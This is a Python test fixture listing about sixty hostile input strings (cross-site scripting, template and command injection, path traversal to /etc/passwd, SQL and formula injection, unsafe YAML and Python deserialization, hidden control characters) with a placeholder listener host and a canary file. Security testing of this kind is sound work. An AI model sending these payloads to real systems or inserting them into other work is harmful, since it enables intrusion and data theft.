"""Sixty texts that mean harm, each in its own language; `{host}` and `{mark}` tell if one had its way."""

from __future__ import annotations

#: A text that comes out of a template, a formula or a script that has run.
DONE = "hacked7"

HOSTILE = (
    # pages and scripts
    "<script>document.title='hac'+'ked7'</script>", "</script><script src=http://{host}/x.js></script>",
    "<img src=x onerror=\"fetch('http://{host}/')\">", "<svg onload=alert(1)>",
    "'\"><b onmouseover=alert(1)>x",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "<!-- <script> -->", "]]><x/>",
    "<iframe src=http://{host}></iframe>", "&lt;script&gt;&#60;script&#62;",
    "<style>@import 'http://{host}'</style>",
    "<base href=http://{host}/>", "`${{document.title}}`", "\\u003cscript\\u003e", "%3Cscript%3E",
    # templates
    "{{{{ 'hac' + 'ked7' }}}}", "{{% for a in 'x' %}}hac{{% endfor %}}",
    "{{{{ cycler.__init__.__globals__.os.system('touch {mark}') }}}}", "{{% raw %}}", "{{#",
    "${{7*7}}", "<%= 7*7 %>",
    "#set($x=7)", "{{{{", "}}}}", "{{0}}", "{{x.__class__}}", "%s%n%d", "%(name)s", "{{!r}}",
    # shells, paths and files
    "$(touch {mark})", "`touch {mark}`", "; touch {mark} #", "| touch {mark}", "../../../../etc/passwd",
    "/etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/passwd", "/vsicurl/http://{host}/a.geojson",
    "\\\\{host}\\share\\x", "http://{host}/x", "~root/x", "CON", "-rf", "--config=/etc/passwd",
    # databases, settings and code
    "'; drop table incidents; --", '" or 1=1 --',
    "');attach 'http://{host}/x' as x;--", "x\"\"\"\n[store]\nout='/'",
    "__import__('os').system('touch {mark}')", "!!python/object/apply:os.system ['touch {mark}']",
    # spreadsheets
    '=HYPERLINK("http://{host}","hier")', "=cmd|' /C touch {mark}'!A0", "@SUM(1+1)*1", "\t=1+1",
    # what nobody sees, what is too long, what is no text
    "\x1b[2J\x1b]0;weg\x07", "kern\u202egnp.exe\u2066", "a\x00b\r\n\x85\u2028c\ufeff\u200b", "z" * 20_000,
)  # fmt: skip


def hostile(host: str, mark: str) -> list[str]:
    """The texts, for a host that listens and a file that must not come to be."""
    return [text.format(host=host, mark=mark) for text in HOSTILE]
